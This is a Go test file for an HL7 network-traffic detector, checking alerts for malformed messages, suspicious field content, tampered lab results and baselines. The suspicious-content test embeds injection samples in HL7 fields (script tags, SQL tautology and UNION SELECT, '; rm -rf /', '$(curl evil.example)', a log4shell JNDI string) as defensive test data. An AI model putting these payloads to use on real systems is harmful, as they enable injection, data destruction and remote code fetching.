package detect_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/medtap/medtap/detect"
	"github.com/medtap/medtap/flow"
	"github.com/medtap/medtap/flow/hl7flow"
	"github.com/medtap/medtap/hl7"
	"github.com/medtap/medtap/internal/pkttest"
	"github.com/medtap/medtap/internal/testutil"
	"github.com/medtap/medtap/mllp"
)

// hl7Msg returns a message event for raw (segments joined by "\r") from
// src to dst, with the Detail the hl7flow adapter gives it. The event
// keeps its own parsed message.
func hl7Msg(tb testing.TB, ts time.Time, src, dst, raw string) *flow.Event {
	tb.Helper()
	m := new(hl7.Message)
	if err := m.Parse([]byte(raw)); err != nil {
		tb.Fatalf("%q: %v", raw, err)
	}
	msh := m.MSH()
	typ := msh.Field(9).Comp(1).String()
	if ev := msh.Field(9).Comp(2).String(); ev != "" {
		typ += "^" + ev
	}
	d := &hl7flow.Message{
		Message: m, MessageType: []byte(typ),
		ControlID: msh.Field(10).Bytes(), Version: msh.Field(12).Bytes(),
		SendingApp: msh.Field(3).Bytes(), SendingFacility: msh.Field(4).Bytes(),
		ReceivingApp: msh.Field(5).Bytes(), ReceivingFacility: msh.Field(6).Bytes(),
		Segments: m.NumSegments(),
	}
	return &flow.Event{Time: ts, Src: ap(src), Dst: ap(dst), Protocol: hl7flow.Name, Kind: hl7flow.KindMessage, Detail: d}
}

func hl7Err(ts time.Time, src, dst string, err error) *flow.Event {
	return &flow.Event{Time: ts, Src: ap(src), Dst: ap(dst), Protocol: hl7flow.Name, Kind: flow.KindError, Detail: &flow.DecodeErrorDetail{Offset: 0, Err: err}}
}

const (
	lis = "10.1.0.5:40001"
	eng = "10.1.0.9:2575"
)

// oru returns an ORU^R01 from app@fac for the filler order number with one
// OBX of the value type, value and status.
func oru(app, fac, id, filler, typ, value, status string) string {
	return strings.Join([]string{
		"MSH|^~\\&|" + app + "|" + fac + "|EHR|HOSP|20261129093012||ORU^R01^ORU_R01|" + id + "|P|2.5.1",
		"PID|1||MRN100234^^^SEGH^MR||DOE^JANE^Q||19750314|F",
		"OBR|1|ORD" + filler + "^CPOE|" + filler + "^LIS|58410-2^CBC panel^LN|||20261129083000",
		"OBX|1|" + typ + "|6690-2^Leukocytes^LN||" + value + "|10*3/uL|4.5-11.0|H|||" + status + "|||20261129092500",
	}, "\r") + "\r"
}

func hl7Alerts(c *collect, id string) []detect.Alert {
	var out []detect.Alert
	for _, a := range c.alerts {
		if a.ID == id {
			out = append(out, a)
		}
	}
	return out
}

func TestHL7Malformed(t *testing.T) {
	e, c := newEngine(t, detect.Config{})
	e.Event(hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", "1", "S1", "NM", "11.8", "F")))
	e.Event(hl7Msg(t, t0, lis, eng, "MSH|^~\\&|LIS|LAB|EHR|HOSP|2026||ORU^R01|2|P|9.9\rPID|1\r")) // unknown version
	e.Event(hl7Msg(t, t0, lis, eng, "MSH|^~\\&|LIS|LAB|EHR|HOSP|2026||ORU^R01||P|2.5\r"))         // no control ID
	e.Event(hl7Err(t0, lis, eng, mllp.ErrJunk))
	if got := hl7Alerts(c, "hl7.malformed"); len(got) != 1 || got[0].Severity != detect.Low || got[0].Field("what") != "message" ||
		!strings.Contains(got[0].Field("error"), "MSH-12") {
		t.Fatalf("alerts %+v, want one low", got)
	}
	// Many within the window: medium, once.
	for i := range 30 {
		e.Event(hl7Err(t0.Add(time.Duration(i)*time.Second), lis, eng, mllp.ErrIncomplete))
	}
	// Another pair is apart, and the window passes.
	e.Event(hl7Err(t0.Add(time.Minute), "10.1.0.6:40001", eng, &hl7.ParseError{Offset: 3, Err: hl7.ErrNoMSH}))
	e.Event(hl7Err(t0.Add(time.Hour), lis, eng, mllp.ErrIncomplete))
	e.Flush()
	var got []string
	for _, a := range hl7Alerts(c, "hl7.malformed") {
		got = append(got, fmt.Sprintf("%s %s %d", a.Severity, a.Src.Addr(), a.Count))
	}
	want := []string{
		"low 10.1.0.5 1", "medium 10.1.0.5 1", "low 10.1.0.6 1",
		"low 10.1.0.5 18", "low 10.1.0.5 1", // the hour has passed: the first window's count, then a new one
		"medium 10.1.0.5 13", // the first window's count, flushed
	}
	if strings.Join(got, ",") != strings.Join(want, ",") {
		t.Errorf("alerts %q, want %q", got, want)
	}
}

func TestHL7SuspiciousContent(t *testing.T) {
	base := oru("LIS", "LAB", "1", "S1", "NM", "11.8", "F")
	for _, tc := range []struct {
		name, old, new string
		want           string // severity and match, "" for none
	}{
		{"clean", "", "", ""},
		{"script in a name", "DOE^JANE", "DOE<SCRIPT>alert(1)</script>^JANE", "high <script"},
		{"javascript", "Leukocytes", "javascript:alert(1)", "high javascript:"},
		{"SQL tautology", "MRN100234", "x' OR '1'='1", "high ' or '1'='1"},
		{"SQL union", "Leukocytes", "x UNION SELECT password FROM users", "high union select"},
		{"rm", "Leukocytes", "x; rm -rf /", "high ; rm -rf"},
		{"command substitution", "11.8", "$(curl evil.example)", "high $("},
		{"backticks", "Leukocytes", "`id`", "high `"},
		{"escaped pipe to sh", "Leukocytes", "curl x\\F\\sh", "high \\f\\sh"},
		{"log4shell", "Leukocytes", "${jndi:ldap://x/a}", "high ${jndi:"},
		{"control character", "Leukocytes", "Leuko\x00cytes", "medium NUL"},
		{"escape byte in ASCII", "Leukocytes", "Leuko\x1bcytes", "medium ESC"},
		{"long numeric", "11.8", strings.Repeat("9", 100), "high OBX-5 (NM)"},
		{"long name", "DOE^JANE", strings.Repeat("A", 3000), "high PID-5"},
		{"many identifiers", "MRN100234^^^SEGH^MR", strings.Repeat("MRN100234^^^SEGH^MR~", 60), ""},
		{"long coded value", "|NM|6690-2^Leukocytes^LN||11.8", "|CE|6690-2^Leukocytes^LN||" + strings.Repeat("A^", 1100), "high OBX-5 (CE)"},
		// Not suspicious.
		{"long text", "|NM|6690-2^Leukocytes^LN||11.8", "|TX|6690-2^Leukocytes^LN||" + strings.Repeat("Normal findings. ", 300), ""},
		{"long base64", "|NM|6690-2^Leukocytes^LN||11.8", "|ED|PDF^LN||^application^pdf^Base64^" + strings.Repeat("JVBERi0xLjQK+/=", 400), ""},
		{"dollar amount", "Leukocytes", "cost $(12.50) waived", ""},
		{"apostrophe", "DOE^JANE", "O'BRIEN^JANE", ""},
		{"union in text", "Leukocytes", "delayed union; selected views", ""},
		{"shell word in a name", "DOE^JANE", "SHAW^SHELLY", ""},
		{"tab in text", "Leukocytes", "Leuko\tcytes", ""},
		{"escaped pipe and a word", "Leukocytes", "A\\F\\Short", ""},
		{"Latin-1", "DOE^JANE", "M\xdcLLER^J\xc9R\xd4ME", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			raw := strings.Replace(base, tc.old, tc.new, 1)
			e, c := newEngine(t, detect.Config{})
			e.Event(hl7Msg(t, t0, lis, eng, raw))
			got := hl7Alerts(c, "hl7.suspicious-content")
			if tc.want == "" {
				if len(got) != 0 {
					t.Fatalf("alerts %+v", got)
				}
				return
			}
			if len(got) != 1 {
				t.Fatalf("alerts %+v, want %s", got, tc.want)
			}
			if s := got[0].Severity.String() + " " + got[0].Field("match"); s != tc.want {
				t.Errorf("got %q, want %q (%+v)", s, tc.want, got[0])
			}
			if got[0].Field("segment") == "" || got[0].Field("control_id") != "1" {
				t.Errorf("evidence %+v", got[0].Evidence)
			}
		})
	}
}

// TestHL7ControlCharsets checks that ISO 2022 text (ESC sequences) and an
// unknown character set are not control characters.
func TestHL7ControlCharsets(t *testing.T) {
	raw := "MSH|^~\\&|LIS|LAB|EHR|HOSP|2026||ADT^A01|1|P|2.5|||||JPN|ISO IR87||ISO 2022-1994\rPID|1||1||\x1b$B%d%^%@\x1b(B^TARO\r"
	e, c := newEngine(t, detect.Config{})
	e.Event(hl7Msg(t, t0, lis, eng, raw))
	if got := hl7Alerts(c, "hl7.suspicious-content"); len(got) != 0 {
		t.Errorf("alerts %+v", got)
	}
}

func TestHL7ScanBudget(t *testing.T) {
	raw := oru("LIS", "LAB", "1", "S1", "TX", strings.Repeat("x", 4000)+"<script>", "F")
	cfg := detect.Config{Rules: map[string]detect.RuleConfig{"hl7.suspicious-content": {Params: map[string]float64{"max-scan-bytes": 1000}}}}
	e, c := newEngine(t, cfg)
	e.Event(hl7Msg(t, t0, lis, eng, raw))
	if got := hl7Alerts(c, "hl7.suspicious-content"); len(got) != 0 {
		t.Errorf("found past the budget: %+v", got)
	}
	e, c = newEngine(t, detect.Config{})
	e.Event(hl7Msg(t, t0, lis, eng, raw))
	if got := hl7Alerts(c, "hl7.suspicious-content"); len(got) != 1 {
		t.Errorf("alerts %+v, want one within the default budget", got)
	}
}

func TestHL7ResultTamper(t *testing.T) {
	cfg := detect.Config{Rules: map[string]detect.RuleConfig{"hl7.result-tamper": {Params: map[string]float64{"min-messages": 5}}}}

	t.Run("first correction", func(t *testing.T) {
		e, c := newEngine(t, cfg)
		for i := range 5 {
			e.Event(hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", fmt.Sprint(i), fmt.Sprint("S", i), "NM", "11.8", "F")))
		}
		e.Event(hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", "c1", "S1", "NM", "12.8", "C")))
		e.Event(hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", "c2", "S2", "NM", "", "D"))) // it has corrected before: no alert
		// Another sender's first correction, in OBR-25.
		for i := range 5 {
			e.Event(hl7Msg(t, t0, "10.1.0.8:40000", eng, oru("RIS", "RAD", fmt.Sprint(i), fmt.Sprint("R", i), "NM", "11.8", "F")))
		}
		e.Event(hl7Msg(t, t0, "10.1.0.8:40000", eng, strings.Replace(oru("RIS", "RAD", "r9", "R9", "NM", "11.8", "F"), "20261129083000", "20261129083000||||||||||||||||||C", 1)))
		got := hl7Alerts(c, "hl7.result-tamper")
		if len(got) != 2 || got[0].Field("result_status") != "C" || got[0].Field("sender") != "LIS@LAB" || got[0].Field("earlier_messages") != "5" ||
			got[1].Field("sender") != "RIS@RAD" {
			t.Fatalf("alerts %+v, want two", got)
		}
	})
	t.Run("too few messages", func(t *testing.T) {
		e, c := newEngine(t, cfg)
		for i := range 4 {
			e.Event(hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", fmt.Sprint(i), fmt.Sprint("S", i), "NM", "11.8", "F")))
		}
		e.Event(hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", "c1", "S1", "NM", "12.8", "W")))
		for i := range 10 {
			e.Event(hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", fmt.Sprint(i), fmt.Sprint("S", i), "NM", "11.8", "F")))
		}
		e.Event(hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", "c2", "S2", "NM", "12.8", "C")))
		if got := hl7Alerts(c, "hl7.result-tamper"); len(got) != 0 {
			t.Fatalf("alerts %+v", got)
		}
	})
	t.Run("learning", func(t *testing.T) {
		e, c := newEngine(t, cfg)
		e.Learn(true)
		for i := range 10 {
			e.Event(hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", fmt.Sprint(i), fmt.Sprint("S", i), "NM", "11.8", "F")))
		}
		e.Event(hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", "c1", "S1", "NM", "12.8", "C")))
		e.Learn(false)
		e.Event(hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", "c2", "S2", "NM", "12.8", "C")))
		if got := hl7Alerts(c, "hl7.result-tamper"); len(got) != 0 {
			t.Fatalf("alerts %+v", got)
		}
	})
	t.Run("two senders", func(t *testing.T) {
		e, c := newEngine(t, cfg)
		e.Event(hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", "1", "S1", "NM", "11.8", "F")))
		e.Event(hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", "2", "S1", "NM", "11.8", "F")))             // the same sender again
		e.Event(hl7Msg(t, t0, lis, "10.1.0.7:2575", oru("LIS2", "LAB", "3", "S1", "NM", "9.8", "F"))) // another destination
		e.Event(hl7Msg(t, t0, "10.1.0.66:40000", eng, oru("LIS", "LAB", "4", "S1", "NM", "2.1", "F")))
		got := hl7Alerts(c, "hl7.result-tamper")
		if len(got) != 1 || got[0].Field("order") != "S1" || got[0].Field("first_sender_address") != "10.1.0.5" || got[0].Src.Addr().String() != "10.1.0.66" {
			t.Fatalf("alerts %+v, want one", got)
		}
	})
	t.Run("failover pair", func(t *testing.T) {
		cfg := detect.Config{Rules: map[string]detect.RuleConfig{"hl7.result-tamper": {Params: map[string]float64{"match-address": 0}}}}
		e, c := newEngine(t, cfg)
		e.Event(hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", "1", "S1", "NM", "11.8", "F")))
		e.Event(hl7Msg(t, t0, "10.1.0.66:40000", eng, oru("LIS", "LAB", "2", "S1", "NM", "11.8", "F")))
		if got := hl7Alerts(c, "hl7.result-tamper"); len(got) != 0 {
			t.Fatalf("alerts %+v", got)
		}
		e.Event(hl7Msg(t, t0, "10.1.0.66:40000", eng, oru("ROGUE", "LAB", "3", "S1", "NM", "11.8", "F")))
		if got := hl7Alerts(c, "hl7.result-tamper"); len(got) != 1 || got[0].Field("first_sender") != "LIS@LAB" || got[0].Field("sender") != "ROGUE@LAB" {
			t.Fatalf("alerts %+v, want one", got)
		}
	})
}

// TestHL7Bounded checks that the tables stay within their sizes.
func TestHL7Bounded(t *testing.T) {
	cfg := detect.Config{Rules: map[string]detect.RuleConfig{
		"hl7.result-tamper": {Params: map[string]float64{"max-orders": 10, "max-senders": 4}},
		"hl7.malformed":     {Params: map[string]float64{"max-pairs": 4}},
	}}
	e, c := newEngine(t, cfg)
	for i := range 100 {
		src := fmt.Sprintf("10.1.1.%d:4000", i)
		e.Event(hl7Msg(t, t0, src, eng, oru(fmt.Sprint("APP", i), "LAB", "1", fmt.Sprint("S", i), "NM", "1", "F")))
		e.Event(hl7Err(t0, src, eng, mllp.ErrJunk))
	}
	// S0 was evicted long ago: another sender of it is not seen.
	e.Event(hl7Msg(t, t0, "10.1.2.1:4000", eng, oru("X", "LAB", "1", "S0", "NM", "1", "F")))
	if got := hl7Alerts(c, "hl7.result-tamper"); len(got) != 0 {
		t.Errorf("alerts %+v", got)
	}
}

func TestHL7Allocs(t *testing.T) {
	e, _ := newEngine(t, detect.Config{})
	evs := []*flow.Event{
		hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", "1", "S1", "NM", "11.8", "F")),
		hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", "2", "S2", "NM", "11.8", "C")),
		hl7Msg(t, t0, "10.1.0.66:40000", eng, oru("LIS", "LAB", "3", "S1", "NM", "11.8", "F")),
		hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", "4", "S3", "TX", "x; rm -rf /", "F")),
		hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", "5", "S4", "NM", strings.Repeat("9", 100), "F")),
		hl7Msg(t, t0, lis, eng, "MSH|^~\\&|LIS|LAB|EHR|HOSP|2026||ORU^R01||P|2.5\r"),
		hl7Msg(t, t0, lis, eng, "MSH|^~\\&|LIS|LAB|EHR|HOSP|2026||ACK^R01|7|P|2.5.1\r"),
		hl7Msg(t, t0, lis, eng, "MSH|^~\\&|LIS|LAB|EHR|HOSP|2026||ADT^A01|8|P|2.5.1|||||JPN|ISO IR87\rPID|1||1||\x1b$B%d\x1b(B\r"),
		hl7Err(t0, lis, eng, mllp.ErrJunk),
	}
	for _, ev := range evs {
		e.Event(ev) // the first alerts of each key
	}
	for i, ev := range evs {
		if n := testing.AllocsPerRun(100, func() { e.Event(ev) }); n != 0 {
			t.Errorf("event %d: %v allocs", i, n)
		}
	}
}

// mllpSegs frames each message in MLLP and sends it from pkttest.Cli to
// pkttest.Srv in one segment.
func mllpSegs(msgs [][]byte) []smbSeg {
	segs := []smbSeg{{0, 100, pkttest.SYN, ""}, {1, 500, pkttest.SYN | pkttest.ACK, ""}}
	seq := uint32(101)
	for _, m := range msgs {
		f := string(mllp.AppendFrame(nil, m))
		segs = append(segs, smbSeg{0, seq, pkttest.ACK | pkttest.PSH, f})
		seq += uint32(len(f))
	}
	return segs
}

// TestHL7NormalTraffic runs normal HL7: the files of the shared corpus
// (each sent as one MLLP frame, as a sender of a batch file would) and of
// medscan's example, and the captures with HL7 (the MLLP interoperability
// recordings, medscan's sample, the labelled hospital capture of package
// fingerprint, the shared corpus's), and checks that
// nothing above low fires. The corpus's deliberately broken batches and
// files may raise hl7.malformed (low).
func TestHL7NormalTraffic(t *testing.T) {
	files := []string{"../examples/medscan/testdata/hl7/results.hl7"}
	if root := testutil.CorpusRoot(); root != "" {
		more, _ := filepath.Glob(filepath.Join(root, "hl7", "*.hl7"))
		files = append(files, more...)
	} else {
		t.Log("../shared/corpus beside the repository absent: its files are not run")
	}
	low := 0
	check := func(name string, as []detect.Alert) {
		for _, a := range as {
			if !strings.HasPrefix(a.ID, "hl7.") {
				continue
			}
			if a.Severity > detect.Low {
				t.Errorf("%s: %s %s: %s %v", name, a.ID, a.Severity, a.Summary, a.Evidence)
			} else {
				low++
				t.Logf("%s: %s %s %s (%s)", filepath.Base(name), a.ID, a.Severity, a.Summary, a.Field("error"))
			}
		}
	}
	for _, name := range files {
		b, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		// As one frame (a batch), and message by message.
		var msgs [][]byte
		for _, line := range strings.FieldsFunc(string(b), func(r rune) bool { return r == '\r' || r == '\n' }) {
			switch {
			case strings.HasPrefix(line, "MSH"):
				msgs = append(msgs, nil)
			case len(msgs) == 0, strings.HasPrefix(line, "BTS"), strings.HasPrefix(line, "FTS"), strings.HasPrefix(line, "BHS"):
				continue
			case len(line) < 4 || line[3] != '|' || strings.ToUpper(line[:3]) != line[:3]:
				// A value wrapped onto the next line.
				m := msgs[len(msgs)-1]
				msgs[len(msgs)-1] = append(append(m[:len(m)-1], '\n'), line+"\r"...)
				continue
			}
			msgs[len(msgs)-1] = append(append(msgs[len(msgs)-1], line...), '\r')
		}
		for _, frames := range [][][]byte{{b}, msgs} {
			de, c := newEngine(t, detect.Config{})
			fe, err := flow.NewEngine(flow.Config{}, de)
			if err != nil {
				t.Fatal(err)
			}
			pkttest.Feed(t, func(ts time.Time, pkt []byte) error { return fe.Packet(ts, flow.LinkRaw, pkt) }, mllpSegs(frames))
			fe.Flush()
			de.Flush()
			check(name, c.alerts)
		}
	}
	pcaps, _ := filepath.Glob("../flow/hl7flow/testdata/mllp-interop/*.pcap")
	pcaps = append(pcaps, "../examples/medscan/testdata/sample.pcapng", "../fingerprint/testdata/eval/hospital.pcap")
	pcaps = append(pcaps, sharedCaptures(t)...)
	for _, name := range pcaps {
		check(name, alertsOfCapture(t, name))
	}
	if len(files) > 1 && low == 0 {
		t.Error("the corpus's broken batches raised no hl7.malformed")
	}
}

// TestHL7OverMLLP sends a message with a payload and a framing error
// through the flow engine and the hl7flow adapter.
func TestHL7OverMLLP(t *testing.T) {
	msg := []byte(oru("LIS", "LAB", "1", "S1", "TX", "x' OR '1'='1", "F"))
	segs := mllpSegs([][]byte{msg})
	segs = append(segs, smbSeg{0, 101 + uint32(len(segs[2].Data)), pkttest.ACK | pkttest.PSH, "junk outside a frame"})
	de, c := newEngine(t, detect.Config{})
	fe, err := flow.NewEngine(flow.Config{}, de)
	if err != nil {
		t.Fatal(err)
	}
	pkttest.Feed(t, func(ts time.Time, pkt []byte) error { return fe.Packet(ts, flow.LinkRaw, pkt) }, segs)
	fe.Flush()
	de.Flush()
	var got []string
	for _, a := range c.alerts {
		if strings.HasPrefix(a.ID, "hl7.") {
			got = append(got, a.ID+" "+a.Severity.String()+" "+a.Src.String()+" "+a.Dst.String())
		}
	}
	want := "hl7.suspicious-content high 10.0.0.1:0 10.0.0.2:9999,hl7.malformed low 10.0.0.1:0 10.0.0.2:9999"
	if strings.Join(got, ",") != want {
		t.Errorf("alerts %q, want %q", got, want)
	}
}

func BenchmarkHL7Message(b *testing.B) {
	e, _ := newEngine(b, detect.Config{})
	ev := hl7Msg(b, t0, lis, eng, oru("LIS", "LAB", "1", "S1", "NM", "11.8", "F")+
		"NTE|1|L|Specimen slightly hemolyzed. Results verified by the laboratory; repeat in 24 hours if clinically indicated.\r")
	b.SetBytes(int64(len(ev.Detail.(*hl7flow.Message).Message.Bytes())))
	b.ReportAllocs()
	for b.Loop() {
		e.Event(ev)
	}
}

// TestHL7Baseline saves the senders of one run and loads them into
// another: a sender known to correct raises nothing, one known for its
// many results without a correction raises at its first.
func TestHL7Baseline(t *testing.T) {
	cfg := detect.Config{Rules: map[string]detect.RuleConfig{"hl7.result-tamper": {Params: map[string]float64{"min-messages": 5}}}}
	e, _ := newEngine(t, cfg)
	for i := range 6 {
		e.Event(hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", fmt.Sprint(i), fmt.Sprint("S", i), "NM", "11.8", "F")))
		e.Event(hl7Msg(t, t0, "10.1.0.8:40000", eng, oru("RIS", "RAD", fmt.Sprint(i), fmt.Sprint("R", i), "NM", "11.8", "F")))
	}
	e.Event(hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", "c", "S9", "NM", "11.8", "C")))
	var buf strings.Builder
	if _, err := e.WriteBaseline(&buf); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), `"app":"LIS","facility":"LAB","address":"10.1.0.5","messages":7,"corrections":1`) {
		t.Errorf("baseline %s", buf.String())
	}

	e2, c := newEngine(t, cfg)
	if err := e2.ReadBaseline(strings.NewReader(buf.String()), 0); err != nil {
		t.Fatal(err)
	}
	e2.Event(hl7Msg(t, t0, lis, eng, oru("LIS", "LAB", "c2", "S10", "NM", "11.8", "C")))
	e2.Event(hl7Msg(t, t0, "10.1.0.8:40000", eng, oru("RIS", "RAD", "c3", "R10", "NM", "11.8", "W")))
	got := hl7Alerts(c, "hl7.result-tamper")
	if len(got) != 1 || got[0].Field("sender") != "RIS@RAD" || got[0].Field("earlier_messages") != "6" {
		t.Errorf("alerts %+v, want one for RIS", got)
	}
	if err := e2.ReadBaseline(strings.NewReader(`{"format":"medtap-baseline","version":1,"detectors":{"hl7":{"senders":[{"key":"xyz"}]}}}`), 0); err == nil {
		t.Error("a bad key loaded")
	}
}
